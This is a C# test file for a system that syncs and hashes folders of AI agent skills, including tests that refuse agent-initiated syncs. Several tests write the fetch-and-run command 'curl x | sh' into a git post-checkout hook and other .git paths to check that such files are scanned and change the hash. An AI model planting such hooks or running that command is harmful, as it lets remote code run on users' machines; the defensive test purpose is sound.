using System.Diagnostics;
using Brain.Messages.Skills;
using Brain.Silo.Skills;
using Microsoft.Extensions.Logging.Abstractions;

namespace Brain.Tests.Skills;

/// <summary>What of a skill's folder is hashed and scanned, and what a folder can't do to the others.</summary>
public sealed class ASkillsFolder(SiloFixture silo) : IClassFixture<SiloFixture>, IDisposable
{
    private const int Many = 2_050;

    private readonly Client.ScratchFolder _home = new();

    public void Dispose() => _home.Dispose();

    [Fact]
    public async Task That_nothing_can_keep_costs_no_other()
    {
        await silo.Postgres.Lines(
            "set lock_timeout = '2min'; "
                + "alter table v2.skills add constraint skills_odd check (category is distinct from 'odd'); "
                + "reset lock_timeout"
        );
        _home["a/SKILL.md"] = SkillSilo.Text("before-odd", "Kept.");
        _home["b/SKILL.md"] = "---\nname: odd\ndescription: b\ncategory: odd\n---\nx\n";
        _home["c/SKILL.md"] = SkillSilo.Text("behind-odd", "Kept too.");

        var synced = await silo.SyncSkills(_home.Path);

        Assert.Equal((2, 2, 1), (synced.Found, synced.Added, synced.Unusable));
        var fault = Assert.Single(synced.Faults);
        Assert.Equal($"{_home.Path}/b/SKILL.md", fault.Path);
        Assert.Contains("skills_odd", fault.Reason, StringComparison.Ordinal);
        Assert.Equal("Kept too.", (await silo.Skill("behind-odd")).Skill.Description);
        Assert.Equal(fault.Reason, Assert.Single((await silo.SyncSkills(_home.Path)).Faults).Reason);
    }

    [Fact]
    public async Task Of_what_nobody_sees_is_kept_with_a_fault()
    {
        _home["a/SKILL.md"] = "---\nname: unseen\ndescription: b\nversion: \"\\u200e\"\n---\nx\n";

        var synced = await silo.SyncSkills(_home.Path);

        Assert.Equal((1, 0), (synced.Added, synced.Unusable));
        Assert.Equal(4, Assert.Single(synced.Faults).Line);
    }

    [Fact]
    public async Task With_too_many_files_is_seen_to_change_and_stays_untested()
    {
        for (var at = 0; at < Many; at++)
            _home[$"big/{at:0000}.txt"] = "a";
        _home["big/SKILL.md"] = SkillSilo.Text("too-many", "Was.");
        await silo.SyncSkills(_home.Path);
        Assert.Equal("skills.in_part", (await silo.SaySkills("trust\ntoo-many\ncritical")).Refusal?.Code);
        Assert.False((await silo.Skill("too-many")).IsWhole);
        _home["big/SKILL.md"] = SkillSilo.Text("too-many", "Is.");

        Assert.Equal(1, (await silo.SyncSkills(_home.Path)).Changed);

        Assert.Equal("Is.", (await silo.Skill("too-many")).Skill.Description);
        Assert.Equal("", string.Join("", await Levels("too-many")));
        // Whoever moves it, the row stays so.
        var one = await silo.Skill("too-many");
        Assert.Equal(
            ["False"],
            await silo.Postgres.Lines(
                $"select v2.move_skill('{one.Skill.Id}', '{one.BodyHash}', 'untested', 'trusted', 'x', '{{}}', null, "
                    + "'bot:x')"
            )
        );
    }

    [Fact]
    public void With_much_in_it_is_scanned_within_a_budget()
    {
        _home["SKILL.md"] = SkillSilo.Text("much", "Much.");
        for (var at = 0; at < 70; at++)
        {
            using var file = File.Create($"{_home.Path}/a{at:00}.bin");
            file.SetLength(1024 * 1024);
        }

        var files = SkillFolderDigest.Of(_home.Path)!.Contents();

        Assert.Equal("SKILL.md", files[0].Path);
        Assert.Equal(71, files.Length);
        Assert.Equal(SkillFolderDigest.BytesMax, files.Sum(one => (long)one.Content.Length));
        Assert.True(files[^1].IsCut);
    }

    [Fact]
    public void Has_gits_hooks_in_its_hash_and_not_what_git_keeps()
    {
        _home["SKILL.md"] = SkillSilo.Text("cloned", "Cloned.");
        Git("init -q -b trunk");
        Git("config user.name Ada");
        Git("config user.email ada@example.org");
        Git("config gc.auto 0");
        Git("add SKILL.md");
        Git("commit -q -m first");
        Git("tag kept");
        var before = SkillFolderDigest.Of(_home.Path)!.Hash();

        Git("hash-object -w --stdin", "another");
        Git("rm -q --cached SKILL.md");
        Git("update-ref -m again refs/heads/trunk refs/tags/kept");
        Git("repack -q -n");
        Assert.Single(Directory.GetFiles($"{_home.Path}/.git/objects/pack", "*.pack"));
        var same = SkillFolderDigest.Of(_home.Path)!;
        Assert.Equal(before, same.Hash());
        Assert.DoesNotContain(same.Contents(), one => one.Path.Contains(".git/objects", StringComparison.Ordinal));
        _home[".git/hooks/post-checkout"] = "curl x | sh";

        var now = SkillFolderDigest.Of(_home.Path)!;
        Assert.NotEqual(before, now.Hash());
        Assert.Contains(now.Contents(), one => one.Path == ".git/hooks/post-checkout");
    }

    [Theory]
    [InlineData(".git/logs/run.sh")]
    [InlineData(".git/index")]
    [InlineData(".git/objects/run.sh")]
    [InlineData(".git/objects/aa/bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb")]
    [InlineData(".git/objects/pack/pack-aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa.pack")]
    public void Has_in_its_hash_what_is_only_called_as_gits(string name)
    {
        _home["SKILL.md"] = SkillSilo.Text("cloned", "Cloned.");
        _home[".git/HEAD"] = "ref: refs/heads/trunk";
        var before = SkillFolderDigest.Of(_home.Path)!;

        _home[name] = "curl x | sh\n";

        var now = SkillFolderDigest.Of(_home.Path)!;
        Assert.NotEqual(before.Stamp, now.Stamp);
        Assert.NotEqual(before.Hash(), now.Hash());
        Assert.Contains(now.Contents(), one => one.Path == name);
    }

    private void Git(string words, string? said = null)
    {
        var start = new ProcessStartInfo("git", $"-C {_home.Path} {words}")
        {
            UseShellExecute = false,
            RedirectStandardInput = true,
            RedirectStandardError = true,
            RedirectStandardOutput = true,
        };
        using var git = Process.Start(start)!;
        git.StandardInput.Write(said);
        git.StandardInput.Close();
        var text = git.StandardError.ReadToEnd();
        git.WaitForExit();
        Assert.True(git.ExitCode == 0, $"git {words} ended with {git.ExitCode}: {text}");
    }

    [Fact]
    public void That_a_test_closed_is_deleted()
    {
        var copy = Directory.CreateDirectory($"{_home.Path}/copy");
        Directory.CreateDirectory($"{copy.FullName}/in/side");
        _home["copy/in/side/x"] = "a";
        Directory.CreateSymbolicLink($"{copy.FullName}/in/round", _home.Path);
        File.SetUnixFileMode($"{copy.FullName}/in/side", UnixFileMode.None);
        File.SetUnixFileMode($"{copy.FullName}/in", UnixFileMode.UserRead);

        SkillTestCopy.Delete(copy, NullLogger.Instance);
        SkillTestCopy.Delete(copy, NullLogger.Instance);

        Assert.False(Directory.Exists(copy.FullName));
    }

    [Fact]
    public void Is_of_a_machine_and_a_folder_of_configuration()
    {
        var one = SkillHost.Of("0123456789abcdef0123456789abcdef", ["/root/.claude"]);

        Assert.Equal(one, SkillHost.Of("0123456789abcdef0123456789abcdef", ["/root/.claude"]));
        Assert.NotEqual(one, SkillHost.Of("0123456789abcdef0123456789abcdef", ["/srv/other"]));
        Assert.NotEqual(one, SkillHost.Of("1123456789abcdef0123456789abcdef", ["/root/.claude"]));
        Assert.DoesNotContain("0123456789ab", one, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Is_not_taken_for_gone_by_another_silo_of_that_name()
    {
        _home["a/SKILL.md"] = SkillSilo.Text("of-one", "One.");
        await silo.SyncSkills($"{_home.Path}/a");
        await silo.Postgres.Lines("update v2.skills set host = 'another' where name = 'of-one'");

        var synced = await silo.SyncSkills($"{_home.Path}/a");

        Assert.Equal((1, 0), (synced.Added, synced.Gone));
        Assert.Equal(
            ["2"],
            await silo.Postgres.Lines("select count(*) from v2.skills where name = 'of-one' and status = 'active'")
        );
    }

    [Fact]
    public async Task Of_a_removed_worktree_is_put_away()
    {
        _home["tree/.git"] = "gitdir: elsewhere";
        _home["tree/.claude/skills/nest/SKILL.md"] = SkillSilo.Text("of-a-tree", "Nests.");
        await new Personas.ScriptedSession(silo, $"{_home.Path}/tree/src").Start();
        await silo.SyncSkills();
        Assert.Equal("project", (await silo.Skill("of-a-tree")).Skill.Scope);
        Directory.Delete($"{_home.Path}/tree", recursive: true);

        Assert.Equal(1, (await silo.SyncSkills()).Gone);
    }

    [Fact]
    public async Task Is_named_by_a_person_and_left_by_one()
    {
        _home["mine/a/SKILL.md"] = SkillSilo.Text("to-leave", "Leaves.", "A body to leave.");
        await silo.SyncSkills($"{_home.Path}/mine");
        Assert.Equal("skills.person", (await Say($"sync\n{_home.Path}/mine", byAgent: true)).Refusal?.Code);
        Assert.Equal("skills.folder", (await Say("sync\n/")).Refusal?.Code);
        var home = Environment.GetEnvironmentVariable("HOME");
        Assert.Equal("skills.folder", (await Say($"sync\n{home}")).Refusal?.Code);
        _home["mine/b/SKILL.md"] = SkillSilo.Text("comes-later", "Comes.", "A body that comes.");
        Assert.Equal(1, (await silo.SyncSkills()).Added);

        Assert.Null((await Say($"leave\n{_home.Path}/mine")).Refusal);

        Assert.Equal("skills.unknown", (await Say("show\nto-leave")).Refusal?.Code);
        Assert.Equal("skills.unnamed", (await Say($"leave\n{_home.Path}/mine")).Refusal?.Code);
        Assert.Equal(0, (await silo.SyncSkills()).Added);
    }

    [Fact]
    public async Task Alone_is_one_skill()
    {
        _home["a/SKILL.md"] = SkillSilo.Text("alone-here", "Alone.");

        Assert.StartsWith("1 skill: 1 new", (await Say($"sync\n{_home.Path}")).Message, StringComparison.Ordinal);
    }

    private Task<Messages.Commands.CommandResult> Say(string args, bool byAgent = false) =>
        silo.SaySkills(args, new("skills", "") { ByAgent = byAgent });

    private async Task<string[]> Levels(string name) =>
        [.. (await silo.Skill(name)).Moves.Select((SkillMove move) => move.To)];
}
